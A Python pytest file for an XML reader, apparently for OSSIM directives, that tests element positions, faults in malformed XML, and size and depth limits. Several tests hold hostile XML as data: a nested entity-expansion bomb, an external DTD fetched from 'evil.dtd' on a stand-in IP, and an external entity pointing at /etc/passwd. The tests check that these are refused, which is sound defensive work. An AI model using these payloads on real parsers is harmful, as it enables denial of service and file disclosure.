"""Elements with their positions, and XML that is broken or hostile."""

import pytest

from shards.ossim.xml_reader import (
    MAX_DEPTH,
    MAX_ELEMENTS,
    MAX_TOP_ELEMENTS,
    Element,
    EntityReference,
    TopElement,
    read_elements,
)
from shards.ossim.xml_text import XmlFaultError, with_root


def read(text: str) -> list[TopElement | EntityReference]:
    return list(read_elements(with_root(text)))


def fault(text: str) -> tuple[int, XmlFaultError]:
    """The number of elements before a fault, and the fault."""
    found: list[TopElement | EntityReference] = []
    with pytest.raises(XmlFaultError) as raised:
        found.extend(read_elements(with_root(text)))
    return len(found), raised.value


def depth_of(element: Element) -> int:
    depth = 1
    while element.children:
        element = element.children[0]
        depth += 1
    return depth


@pytest.mark.parametrize("root", [("<directives>", "</directives>"), ("", "")])
def test_elements_with_their_positions(root: tuple[str, str]) -> None:
    before, after = root
    first, second = read(f'{before}<a x="1">\n  <é/><b y="&lt;"/></a><c/>{after}')
    assert isinstance(first, TopElement)
    assert isinstance(second, TopElement)
    column = len(before) + 1
    children = [Element("é", {}, 2, 3, []), Element("b", {"y": "<"}, 2, 7, [])]
    assert first.element == Element("a", {"x": "1"}, 1, column, children)
    assert second.element == Element("c", {}, 2, 24, [])
    assert not first.has_text


def test_positions_in_a_long_file() -> None:
    lines = "\n".join("   <directive/>" for _ in range(50_000))
    found = read(lines)
    assert len(found) == 50_000
    assert isinstance(found[-1], TopElement)
    assert (found[-1].element.line, found[-1].element.column) == (50_000, 4)


def test_text_is_noted() -> None:
    flags = [top.has_text for top in read("<a>x</a><a> <b/> </a><a><b>&#120;</b></a>y<a/>")]  # type: ignore[union-attr]
    assert flags == [True, False, True, False]


@pytest.mark.parametrize(
    ("text", "before", "line", "column", "message"),
    [
        ("<directives><a/><b>\n</directives>", 1, 2, 3, "mismatched tag"),
        ("<directives><a/>", 1, 1, 17, "no element found"),
        ("<directives/>\n<a/>", 0, 2, 1, "junk after document element"),
        ("<a/>\n<a", 1, 2, 3, "not well-formed"),
        ("<a x='1' x='2'/>", 0, 1, 10, "duplicate attribute"),
        ("<a/><a x='<'/>", 1, 1, 11, "not well-formed"),
        ("<a/>&unknown;", 1, 1, 5, "undefined entity"),
        ("<a/>\x00", 1, 1, 5, "not well-formed"),
    ],
)
def test_broken_xml_is_read_up_to_the_fault(
    text: str, before: int, line: int, column: int, message: str
) -> None:
    number, error = fault(text)
    assert (number, error.code, error.line, error.column) == (before, "bad-xml", line, column)
    assert message in str(error)


ENTITIES = "".join(f'<!ENTITY e{n} "{f"&e{n - 1};" * 10}">\n' for n in range(1, 10))


@pytest.mark.parametrize(
    "definition",
    [
        f'<!ENTITY e0 "x">\n{ENTITIES}',
        '<!ENTITY e0 "x">',
        '<!ENTITY % e0 SYSTEM "http://192.0.2.1/evil.dtd">%e0;',
        "<!ENTITY % e0 \"<!ENTITY a 'b'>\">",
        '<!NOTATION gif SYSTEM "gif"><!ENTITY e0 SYSTEM "a.gif" NDATA gif>',
    ],
)
def test_entities_that_could_expand_are_refused(definition: str) -> None:
    number, error = fault(f"<!DOCTYPE d [\n{definition}]>\n<directives>&e9;</directives>")
    assert (number, error.code, error.line) == (0, "entity", 2)
    assert "defines the entity e0" in str(error)


def test_files_of_entities_and_dtds_are_not_opened(tmp_path: object) -> None:
    found = read(
        f'<!DOCTYPE directives SYSTEM "{tmp_path}/none.dtd" [\n'
        f'<!ENTITY user SYSTEM "{tmp_path}/none.xml">]>\n'
        "<directives>\n&user;<a>&user;</a>&other;</directives>"
    )
    assert found == [
        EntityReference("user", f"{tmp_path}/none.xml", 4, 1),
        EntityReference("user", f"{tmp_path}/none.xml", 4, 10),
        TopElement(Element("a", {}, 4, 7, [])),
        EntityReference("other", "", 4, 20),
    ]


def test_a_file_of_an_entity_in_an_attribute_is_a_fault() -> None:
    _, error = fault('<!DOCTYPE d [<!ENTITY a SYSTEM "/etc/passwd">]><directives x="&a;"/>')
    assert "reference to external entity in attribute" in str(error)


def test_elements_are_bounded_and_what_is_cut_is_counted() -> None:
    top, after = read(f"<a>{'<b/>' * (MAX_ELEMENTS + 4)}</a><a/>")
    assert isinstance(top, TopElement)
    assert (len(top.element.children), top.cut) == (MAX_ELEMENTS - 1, 5)
    assert isinstance(after, TopElement)
    assert after.cut == 0


def test_depth_is_bounded_and_what_is_cut_is_counted() -> None:
    for depth, cut in ((MAX_DEPTH - 1, 0), (MAX_DEPTH, 1), (5_000, 5_001 - MAX_DEPTH)):
        top, after = read("<a>" * depth + "</a>" * depth + "<a/>")
        assert isinstance(top, TopElement)
        assert top.cut == cut
        assert depth_of(top.element) == min(depth, MAX_DEPTH - 1)
        assert isinstance(after, TopElement)
        assert depth_of(after.element) == 1


def test_the_number_of_elements_below_the_root_is_bounded() -> None:
    assert len(read("<a/>" * MAX_TOP_ELEMENTS)) == MAX_TOP_ELEMENTS
    number, error = fault("<a/>" * MAX_TOP_ELEMENTS + "\n <a>")
    assert (number, error.code) == (MAX_TOP_ELEMENTS, "too-many-elements")
    assert (error.line, error.column) == (2, 2)
